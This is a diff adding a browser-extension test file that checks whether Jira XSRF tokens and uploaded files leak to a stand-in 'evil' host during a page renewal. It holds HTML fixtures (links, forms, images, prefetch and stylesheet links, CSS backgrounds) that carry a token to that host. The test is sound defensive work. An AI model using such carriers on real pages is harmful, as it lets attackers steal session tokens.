@@ -1,0 +1,129 @@
+/**
+ * What users write into an issue can lead to a host of theirs. It is given no token, and no request that it would not have
+ * had without the extension: each is played at a Jira that nobody granted too, which is as without.
+ */
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { KINDS, type Browser, type Tab } from '../browsers/browser.ts';
+import { pause, until } from '../browsers/until.ts';
+import { makeFile } from '../files.ts';
+import { atAnIssue, badgeOf, bannerOf, launchWatching, switchTo, type World } from '../world.ts';
+import { serveOtherHost, type OtherHost } from './other-host.ts';
+
+const UNGRANTED = 'jira.bare.localhost';
+const WATCHED = 'jira.work.localhost';
+
+/** Everything in which a page can carry a token to another host, with its old token in it. */
+const CARRIERS = `
+  <a id="away" href="AWAY/link?atl_token=OLD">a picture of the door</a>
+  <form id="away-form" method="post" action="AWAY/form" enctype="multipart/form-data" target="away">
+    <input type="hidden" name="atl_token" value="OLD"><button id="away-send">Send</button>
+  </form>
+  <form method="post" action="/secure/AddComment.jspa" target="away">
+    <input type="hidden" name="atl_token" value="OLD">
+    <button id="away-button" formaction="AWAY/button">Send</button>
+  </form>
+  <iframe name="away" hidden></iframe>
+  <img src="AWAY/picture?atl_token=OLD" alt="">
+  <link rel="next" href="AWAY/next?atl_token=OLD">
+  <link rel="icon" href="AWAY/icon?atl_token=OLD">
+  <link rel="prefetch" href="AWAY/prefetch?atl_token=OLD">
+  <link rel="stylesheet" href="AWAY/style?atl_token=OLD">
+  <p data-to='{"url":"AWAY/data?atl_token=OLD"}' style="background: url(AWAY/background?atl_token=OLD)">x</p>`;
+
+describe.each(KINDS)('in %s', (kind) => {
+  let browser: Browser;
+
+  beforeAll(async () => {
+    browser = await launchWatching(kind, WATCHED);
+  });
+  afterAll(() => browser.close());
+
+  /** Plays it at a Jira without the extension, then with it; gives what the other host was sent each time. */
+  async function bothSides(
+    userContent: (away: string) => string,
+    story: (world: World, away: OtherHost, isWatched: boolean) => Promise<void>,
+  ): Promise<Sent[]> {
+    const sides: Sent[] = [];
+    for (const host of [UNGRANTED, WATCHED]) {
+      const away = await serveOtherHost(host.replace('jira', 'evil'));
+      const world = await atAnIssue(browser, { host, userContent: userContent(away.url) });
+      await story(world, away, host === WATCHED);
+      const tokens = world.server.jira.sessions.all.flatMap(({ xsrfToken }) => xsrfToken ?? []);
+      sides.push({
+        requests: away.received.map(({ method, path }) => `${method} ${path}`).toSorted(),
+        tokens: tokens.filter((token) => away.received.some(({ text }) => text.includes(token))),
+        files: away.received.filter(({ text }) => text.includes('door.log')).length,
+      });
+      await world.end();
+      await away.close();
+    }
+    return sides;
+  }
+
+  test('a form of user content with an empty token and a file is sent without a token', async () => {
+    const form = (away: string): string => `
+      <form id="away-form" method="post" action="${away}/form" enctype="multipart/form-data" target="away">
+        <input type="hidden" name="atl_token" value=""><input id="away-file" name="file" type="file">
+        <button id="away-send">Send</button>
+      </form><iframe name="away" hidden></iframe>`;
+    const [bare, guarded] = await bothSides(form, async ({ tab }, away) => {
+      await tab.activate();
+      await tab.pick('#away-file', [makeFile('door.log').path]);
+      await pause(500);
+      await tab.page.click('#away-send');
+      await until('it is sent', 3_000, async () => away.received.some(({ path }) => path === '/form'));
+    });
+    expect(bare).toEqual({ requests: ['POST /form'], tokens: [], files: 1 });
+    expect(guarded).toEqual(bare);
+  });
+
+  test('a renewal hands nothing to another host, and loads nothing there', async () => {
+    const [bare, guarded] = await bothSides(
+      () => '',
+      async ({ tab, other, server }, away, isWatched) => {
+        await addCarriers(tab, away);
+        await pause(1_000);
+        await switchTo(other, server, 'alice');
+        await tab.activate();
+        if (isWatched) {
+          await bannerOf(tab, 'Renewing mends it in place', 2_000);
+          await tab.press('Renew this page');
+          await bannerOf(tab, 'This page is fresh again', 2_000);
+          await badgeOf(tab, '4h');
+        }
+        // Those that somebody presses afterwards bring nothing new either.
+        for (const [button, path] of [
+          ['#away-send', '/form'],
+          ['#away-button', '/button'],
+          ['#away', '/link'],
+        ] as const) {
+          await tab.page.click(button);
+          await until(`${button} leads away`, 3_000, async () =>
+            away.received.some((each) => each.path === path),
+          );
+        }
+      },
+    );
+    expect(bare!.tokens).toEqual([]);
+    expect(guarded).toEqual(bare);
+  });
+});
+
+interface Sent {
+  readonly requests: readonly string[];
+  /** The tokens that are valid now and that the other host has got to know. */
+  readonly tokens: readonly string[];
+  readonly files: number;
+}
+
+async function addCarriers(tab: Tab, { url }: OtherHost): Promise<void> {
+  await tab.page.evaluate(
+    (markup, away) => {
+      const { content } = document.querySelector<HTMLMetaElement>('#atlassian-token')!;
+      const text = markup.replaceAll('OLD', content).replaceAll('AWAY', away);
+      document.querySelector('main')!.insertAdjacentHTML('beforeend', text);
+    },
+    CARRIERS,
+    url,
+  );
+}
